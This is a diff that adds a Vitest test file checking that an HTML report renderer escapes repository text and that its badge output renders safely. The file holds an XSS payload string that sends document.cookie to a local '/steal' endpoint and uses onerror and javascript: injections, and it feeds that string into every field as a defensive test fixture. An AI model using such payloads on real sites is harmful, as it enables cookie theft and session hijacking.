@@ -1,0 +1,121 @@
+// The HTML report (and the badge): self-contained, every repository string escaped, and it really renders
+// in headless Chromium with no console errors and no network request.
+import { statSync } from 'node:fs';
+import path from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Report } from '../src/report/report.js';
+import { badgeFor, renderBadge } from '../src/reporters/badge.js';
+import { renderHtml } from '../src/reporters/html.js';
+import { REPORTERS } from '../src/reporters/index.js';
+import { chromiumAvailable, CHROMIUM_SKIP_REASON, renderInChromium } from './browser.js';
+import { FIXTURES, makeTree, scanDir } from './helpers.js';
+
+const HOSTILE = `<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script><img src="http://127.0.0.1:9/pixel.png" onerror="alert(1)"><a href="javascript:alert(2)">x</a>"'\`=&lt;`;
+
+let complete: Report;
+let notebooks: Report;
+let hostile: Report;
+
+beforeAll(async () => {
+  complete = await scanDir(path.join(FIXTURES, 'complete-handover'));
+  notebooks = await scanDir(path.join(FIXTURES, 'notebook-dump'));
+  // A real scan of a tree whose names carry markup, then every repo-derived string poisoned.
+  const dir = makeTree({ 'docs/adr/0001-<img src=x onerror=alert(1)>.md': `# 1. ${HOSTILE}\n\nDate: 2025-02-01\n\n## Status\n\nAccepted\n` });
+  const scanned = await scanDir(dir);
+  hostile = structuredClone(scanned);
+  hostile.target = { ...hostile.target, path: HOSTILE, ref: HOSTILE, commit: HOSTILE };
+  hostile.gate.reasons.push(HOSTILE);
+  hostile.errors.push({ path: HOSTILE, message: HOSTILE });
+  hostile.policy.notes.push(HOSTILE);
+  hostile.policy.source = HOSTILE;
+  for (const check of hostile.checks) {
+    check.summary = HOSTILE;
+    check.evidence.push({ path: HOSTILE, kind: HOSTILE, note: HOSTILE, line: 3 });
+    check.findings.push({ id: 'poisoned', severity: 'error', message: HOSTILE, path: HOSTILE, remediation: HOSTILE });
+  }
+});
+
+describe('HTML report (text)', () => {
+  it('is registered as --format html and --format badge', () => {
+    expect(REPORTERS.html(complete, { color: false })).toBe(renderHtml(complete));
+    expect(JSON.parse(REPORTERS.badge(complete, { color: false }))).toEqual(badgeFor(complete));
+  });
+
+  it('is one self-contained document: no script, no external reference, a CSP that forbids requests', () => {
+    const page = renderHtml(complete);
+    expect(page.startsWith('<!DOCTYPE html>')).toBe(true);
+    expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'`);
+    expect(page).not.toMatch(/<script|<link|<iframe|<object|<embed|@import|url\(/i);
+    expect(page).not.toMatch(/\s(src|href)="(?!#)/i);
+    // One chart per check, the score and the gate.
+    expect(page.match(/<svg class="chart"/g)).toHaveLength(complete.checks.length);
+    expect(page).toContain(`${complete.score}/100`);
+    expect(page).toContain(complete.passed ? 'GATE PASSED' : 'GATE FAILED');
+  });
+
+  it('shows findings with their remediation', () => {
+    const page = renderHtml(notebooks);
+    const finding = notebooks.checks.flatMap((check) => check.findings).find((f) => f.remediation);
+    expect(finding).toBeDefined();
+    expect(page).toContain('class="remedy"');
+    expect(page).toContain(finding!.id);
+  });
+
+  it('escapes every repository-derived string', () => {
+    const page = renderHtml(hostile);
+    expect(page).not.toMatch(/<script|<img|<a href="javascript/i);
+    expect(page).not.toContain('onerror="');
+    expect(page).not.toMatch(/\s(src|href)="(?!#)/i);
+    expect(page).toContain('&#60;script&#62;fetch(');
+  });
+});
+
+describe('badge', () => {
+  it('is a shields.io endpoint document coloured by the gate', () => {
+    const passed = { ...complete, score: 86, passed: true, milestone: 'pilot' } as Report;
+    const failedHigh = { ...complete, score: 62, passed: false, milestone: null } as Report;
+    const failedLow = { ...complete, score: 31, passed: false, milestone: null } as Report;
+    expect(badgeFor(passed)).toEqual({ schemaVersion: 1, label: 'handover (pilot)', message: '86/100', color: 'brightgreen' });
+    expect(badgeFor({ ...passed, score: 72 })).toMatchObject({ color: 'green' });
+    expect(badgeFor(failedHigh)).toEqual({ schemaVersion: 1, label: 'handover', message: '62/100 · gate failed', color: 'orange' });
+    expect(badgeFor(failedLow).color).toBe('red');
+    expect(JSON.parse(renderBadge(passed))).toEqual(badgeFor(passed));
+  });
+});
+
+const PROBE = `(() => ({
+  title: document.title,
+  heading: document.querySelector('h1')?.textContent ?? '',
+  charts: document.querySelectorAll('svg.chart').length,
+  chartWidth: document.querySelector('svg.chart')?.getBoundingClientRect().width ?? 0,
+  gauge: document.querySelectorAll('svg.gauge').length,
+  scripts: document.scripts.length,
+  injected: document.querySelectorAll('img, iframe, object, embed, a[href^="javascript"]').length,
+  bodyText: document.body.innerText.slice(0, 20000),
+}))()`;
+
+describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumAvailable ? '' : ` — SKIPPED: ${CHROMIUM_SKIP_REASON}`}`, () => {
+  it('renders the complete-handover report with a chart per check, no console error and no request', async () => {
+    const rendered = await renderInChromium(renderHtml(complete), 'complete-handover', PROBE);
+    expect(rendered.consoleErrors).toEqual([]);
+    expect(rendered.pageErrors).toEqual([]);
+    expect(rendered.requests).toEqual([]);
+    expect(rendered.facts.charts).toBe(complete.checks.length);
+    expect(rendered.facts.gauge).toBe(1);
+    expect(rendered.facts.chartWidth as number).toBeGreaterThan(200);
+    expect(rendered.facts.heading).toContain('Handover readiness');
+    expect(statSync(rendered.screenshot).size).toBeGreaterThan(5_000);
+  });
+
+  it('shows hostile repository text as text: nothing injected, nothing fetched', async () => {
+    const rendered = await renderInChromium(renderHtml(hostile), 'hostile', PROBE);
+    expect(rendered.consoleErrors).toEqual([]);
+    expect(rendered.pageErrors).toEqual([]);
+    expect(rendered.requests).toEqual([]);
+    expect(rendered.facts.scripts).toBe(0);
+    expect(rendered.facts.injected).toBe(0);
+    expect(rendered.facts.bodyText as string).toContain("<script>fetch('http://127.0.0.1:9/steal");
+  });
+});
+
+if (!chromiumAvailable) console.warn(CHROMIUM_SKIP_REASON);
